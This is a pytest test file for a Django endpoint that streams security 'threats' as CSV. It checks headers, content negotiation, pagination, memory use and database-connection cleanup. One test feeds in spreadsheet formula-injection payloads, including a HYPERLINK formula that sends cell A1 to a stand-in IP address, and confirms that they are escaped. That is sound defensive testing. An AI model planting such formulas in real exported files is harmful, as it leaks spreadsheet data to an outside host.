"""api/cloudlock_v2: threats as CSV."""

import csv
import time
import tracemalloc
from datetime import timedelta
from io import StringIO
from typing import Any

import httpx
import pytest
from django.db import connection

from anomalies.api.cloudlock_v2 import table, threat
from anomalies.models import Anomaly
from anomalies.services import reviews
from anomalies.services.actor import Actor
from tests import make
from tests.api.cloudlock_v2.expected import CREATED, CSV_HEADER, USER, of_the_seed
from tests.api.conftest import Call

PATH = "/api/v2/threats.csv"


def _text(answer: Any) -> str:
    assert answer.status_code == 200
    assert answer["content-type"] == "text/csv; charset=utf-8"
    return b"".join(answer.streaming_content).decode()


def _rows(answer: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(_text(answer), newline="")))


@pytest.mark.django_db
def test_the_table_is_as_documented(call: Call) -> None:
    of_the_seed(description="Unknown user has suspicious login activity from Malaysia.", countries=["MY"])
    assert _text(call("GET", PATH)) == (
        f"{CSV_HEADER}\r\n"
        "1003391,Unknown user has suspicious login activity from Malaysia.,13,Account Compromise,office365,"
        f"{USER},ACTIVE,Malaysia,2020-09-19T03:16:50.016438+00:00\r\n"
    )


@pytest.mark.django_db
def test_no_threats_are_a_header(call: Call) -> None:
    assert _text(call("GET", PATH)) == f"{CSV_HEADER}\r\n"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("accept", "is_csv"),
    [("text/csv", True), ("text/csv, application/json;q=0.5", True), ("application/json, text/csv;q=0.5", False),
     ("*/*", False), ("text/*", True), ("image/png", False), ("nonsense", False)],
)  # fmt: skip
def test_who_accepts_csv_rather_than_json_gets_it(call: Call, accept: str, is_csv: bool) -> None:
    answer = call("GET", "/api/v2/threats", accept=accept)
    assert answer["content-type"].startswith("text/csv" if is_csv else "application/json")
    assert "Accept" in answer["vary"]
    assert not is_csv or _text(answer) == f"{CSV_HEADER}\r\n"


@pytest.mark.django_db
def test_lists_are_joined_and_a_user_without_an_address_is_named(call: Call) -> None:
    make.principal("user_1", name="Lee")
    make.anomaly(platforms=["aws", "okta"], countries=["MY", "ES"], principal_ids=["user_1", "kim@example.com"])
    [row] = _rows(call("GET", PATH))
    assert (row["Platforms"], row["countries"]) == ("aws;okta", "Malaysia;Spain")
    assert row["User emails"] == "Lee;kim@example.com"


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_cell_that_a_spreadsheet_would_run_is_guarded(call: Call, start: str) -> None:
    make.principal("user_1", email=f"{start}cmd@example.com")
    text = f'{start}HYPERLINK("http://192.0.2.1/?"&A1;"x"), "y"'
    make.anomaly(description=text, platforms=[f"{start}1+1"], principal_ids=["user_1"])
    [row] = _rows(call("GET", PATH))
    assert row["Description"] == f"'{text}"
    assert (row["Platforms"], row["User emails"]) == (f"'{start}1+1", f"'{start}cmd@example.com")


@pytest.mark.django_db
def test_parameters_are_those_of_the_list_and_without_a_limit_all_come(call: Call) -> None:
    make.copies(make.anomaly(id=1, created_at=CREATED), [CREATED + timedelta(seconds=n) for n in range(1, 60)], first=2)
    reviews.resolve(of_the_seed(), verdict="benign", by=Actor(name="ana"), at=make.NOW)
    assert len(_rows(call("GET", PATH))) == 61
    assert [row["Id"] for row in _rows(call("GET", f"{PATH}?limit=2&offset=3&order=id"))] == ["4", "5"]
    assert [row["Id"] for row in _rows(call("GET", f"{PATH}?offset=59&order=id"))] == ["60", "1003391"]
    assert [row["status"] for row in _rows(call("GET", f"{PATH}?status=dismissed"))] == ["DISMISSED"]


@pytest.mark.django_db
def test_it_takes_no_more_memory_for_five_times_as_many(call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (table, threat):
        monkeypatch.setattr(module, "ROWS_AT_ONCE", 200)
    one = make.anomaly(id=1, principal_ids=[make.principal(f"user_{n}").public_id for n in range(5)])
    make.copies(one, [CREATED] * 999, first=2)
    peaks = []
    for more in (0, 4_000):
        make.copies(one, [CREATED] * more, first=10_000)
        answer = call("GET", PATH)
        rows = 0
        tracemalloc.start()
        for part in answer.streaming_content:
            rows += part.count(b"\r\n")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert rows == 1 + 1_000 + more
    assert peaks[1] < 1.3 * peaks[0]


@pytest.mark.django_db(transaction=True)
def test_what_matched_at_first_and_does_when_it_is_read_is_in_it_once_and_nothing_waits_meanwhile(
    call: Call, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in (table, threat):
        monkeypatch.setattr(module, "ROWS_AT_ONCE", 2)
    for number in range(1, 7):
        make.anomaly(id=number, description=f"{number}", created_at=CREATED)
    parts = iter(call("GET", f"{PATH}?status=active&order=-description").streaming_content)
    read = next(parts) + next(parts)
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        assert cursor.fetchone() == (0,)
    assert not connection.in_atomic_block
    make.anomaly(id=7, description="3 and a half", created_at=CREATED)
    reviews.resolve(Anomaly.objects.get(pk=2), verdict="benign", by=Actor(name="ana"), at=make.NOW)
    lines = list(csv.DictReader(StringIO((read + b"".join(parts)).decode())))
    assert [(line["Id"], line["status"]) for line in lines] == [(f"{number}", "ACTIVE") for number in (6, 5, 4, 3, 1)]


@pytest.mark.django_db(transaction=True)
@pytest.mark.alone
def test_the_server_streams_it_and_keeps_nothing_of_a_client_that_leaves(server: str, key: str) -> None:
    one = make.anomaly(id=1)
    make.copies(one, [CREATED] * 5_999, first=2)
    headers = {"authorization": f"Bearer {key}", "accept-encoding": "gzip"}
    with httpx.stream("GET", f"{server}{PATH}", headers=headers, timeout=60) as answer:
        assert answer.headers["transfer-encoding"] == "chunked"
        assert answer.headers["x-request-id"]
        assert sum(part.count(b"\n") for part in answer.iter_bytes()) == 6_001
    for _ in range(25):  # more than the pool has connections
        with httpx.stream("GET", f"{server}{PATH}", headers=headers, timeout=60) as answer:
            assert next(answer.iter_bytes()).startswith(CSV_HEADER.encode())
    deadline = time.monotonic() + 30
    while _left_open():
        assert time.monotonic() < deadline
    assert httpx.get(f"{server}{PATH}?limit=1", headers=headers, timeout=60).text.count("\r\n") == 2


def _left_open() -> int:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() "
            "AND state LIKE 'idle in transaction%%'"
        )
        return int(cursor.fetchone()[0])
